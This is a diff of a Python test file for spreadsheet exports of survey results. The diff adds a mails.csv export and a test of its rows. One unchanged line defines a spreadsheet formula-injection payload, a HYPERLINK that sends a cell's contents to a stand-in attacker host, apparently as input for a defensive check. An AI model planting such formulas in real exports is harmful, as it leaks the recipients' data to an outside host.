@@ -9,7 +9,7 @@ from tests.web.spreadsheets import parts_of_xlsx, rows_of_csv, texts_of_xlsx
 
 RUN = '=HYPERLINK("https://evil.example/?x="&A1;"Klik")'
 HEAD = ("Kwartaal", "Onderdeel van de organisatie")
-FILES = ("figures.csv", "obstacles.csv", "all.xlsx")
+FILES = ("figures.csv", "obstacles.csv", "mails.csv", "all.xlsx")
 
 
 @pytest.fixture
@@ -67,6 +67,15 @@ def test_what_gets_in_the_way_stands_in_words(take, told):
         ["Quarter", "Part of the organisation", "What gets in the way", "Before", "During", "Afterwards"],
         ["2026-Q3", "Whole organisation", "Too little time", "most people", "", "about half"],
         ["2026-Q3", "Dienstverlening", "My manager wants something else first", "", "", "a few people"],
+    ]
+
+
+def test_who_answered_each_mail_stands_in_words(take, told):
+    told.answered("check_in", Share.MOST)
+
+    assert rows_of_csv(take("mails.csv")) == [
+        [*HEAD, "Mail", "Wie antwoord gaf"],
+        ["2026-Q3", "Hele organisatie", "Tussenstand", "de meeste mensen"],
     ]
 
 
